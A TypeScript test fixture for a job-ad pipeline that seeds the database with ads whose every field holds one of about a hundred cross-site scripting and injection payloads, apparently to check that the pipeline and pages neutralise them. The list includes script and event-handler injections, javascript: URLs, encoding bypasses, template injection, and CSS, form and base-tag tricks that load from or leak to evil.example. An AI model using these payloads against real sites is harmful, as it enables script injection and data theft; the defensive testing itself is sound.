import { linkPostings } from '../../src/pipeline/link-postings.ts'
import { isRejection, understand } from '../../src/pipeline/understand.ts'
import { fingerprint } from '../../src/posting/fingerprint.ts'
import { NORMALIZER_VERSION } from '../../src/posting/normalizer-version.ts'
import { emptyRawPosting, type RawPosting } from '../../src/posting/raw-posting.ts'
import { TAXONOMY_VERSION } from '../../src/skills/taxonomy.ts'
import { insertPostings } from '../../src/store/postings.ts'
import { addBoard } from '../helpers/boards.ts'
import type { TestContext } from '../helpers/context.ts'

/** Each would set a mark if anything of it ran. */
const RUN = 'globalThis.ran=(globalThis.ran||0)+1'

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src=https://evil.example/x.js></script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror='${RUN}'>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<IMG SRC=javascript:${RUN}>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<style>body{background:url(https://evil.example/leak)}</style>`,
  `<div style="background:url(https://evil.example/leak)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><input name=q><button>Apply</button></form>`,
  `<button formaction=https://evil.example/ form=search>Search</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<video src=https://evil.example/x autoplay onplay="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example/">x</a>`,
  `<a href="https://evil.example/" onclick="${RUN}" target=_top>x</a>`,
  `<a href="https://ok.example/" style="position:fixed">x</a>`,
  `<p id=results class=card data-id=fake>x</p>`,
  `<p onmouseover="${RUN}">x</p>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<title></title><script>${RUN}</script>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<plaintext>${RUN}`,
  `<!--><script>${RUN}</script>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<isindex action=javascript:${RUN}>`,
  `<table background="javascript:${RUN}"><tr><td>x</table>`,
  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x</x>`,
  `<custom-element onconnected=${RUN}>x</custom-element>`,
  `<portal src=https://evil.example/></portal>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
]

const BREAKOUTS = [
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus=${RUN} x=`,
  `\`\${${RUN}}\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `\${${RUN}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `]]><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `*/</style><script>${RUN}</script>`,
  `\u2028${RUN}\u2029`,
  `\u0000<script>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `\ud800<script>${RUN}</script>`,
  `<script\u000b>${RUN}</script>`,
  `\u202e<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `[x](javascript:${RUN})`,
  `![x](https://evil.example/pixel.gif)`,
  `<https://evil.example/x>"onclick=${RUN}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `__proto__`,
  `constructor`,
]

/** Texts that would run, load, break out of where they stand, or deface the page, if they were let. */
export const PAYLOADS: readonly string[] = [...ELEMENTS, ...BREAKOUTS]

/** Stores one ad for each payload with it in every field that an ad has, as a visit would; answers the ids of what is shown. */
export async function seedHostile(ctx: TestContext): Promise<string[]> {
  const boardId = await addBoard(ctx, { source: 'html', slug: 'hostile', name: '"><script>alert(1)</script>' })
  const now = ctx.now().toISOString()
  const writes = PAYLOADS.flatMap((payload, index) => {
    const raw = hostileAd(payload, index)
    const written = understand(
      boardId,
      { raw, rawHash: fingerprint(raw) },
      { now, boardCompany: null, boardCountry: null },
    )
    return isRejection(written) ? [] : [written]
  })
  const facts = { boardId, now, normalizerVersion: NORMALIZER_VERSION, taxonomyVersion: TAXONOMY_VERSION, seenAt: null }
  await insertPostings(ctx.db, writes, facts)
  await linkPostings(ctx)
  return writes.map((write) => write.key)
}

function hostileAd(payload: string, index: number): RawPosting {
  const format = (['html', 'markdown', 'text'] as const)[index % 3] ?? 'html'
  // No text in Postgres holds U+0000 or half a character; titles, companies and texts are freed of them by the pipeline.
  const storable = payload.toWellFormed().replaceAll('\0', '')
  return {
    ...emptyRawPosting(`${index} ${storable}`),
    url: index % 2 === 0 ? `https://ads.example/${index}?${storable}` : storable,
    applyUrl: index % 2 === 0 ? storable : `https://ads.example/${index}/apply?x=${storable}`,
    title: `Weaver ${index} ${payload}`,
    company: `Loom ${index} ${payload}`,
    locations: [{ text: `Leeds ${payload}`, city: storable, region: storable, country: 'United Kingdom' }],
    description: {
      format,
      body: `<p>You weave with Python.</p>\n${payload}\n<h2>Requirements ${payload}</h2>\n<ul><li>Python ${payload}</li></ul>`,
    },
    employmentTypes: [storable],
    workplaces: [storable],
    salary: { min: 30_000, max: 40_000, currency: 'GBP', period: 'year', text: `£30,000 - £40,000 ${storable}` },
    seniority: storable,
    experience: storable,
    education: storable,
    eligibility: [storable, 'Germany'],
    language: storable,
    postedAt: '2026-11-01',
    validThrough: storable,
    requisitionId: storable,
    tags: [storable, 'Python'],
  }
}
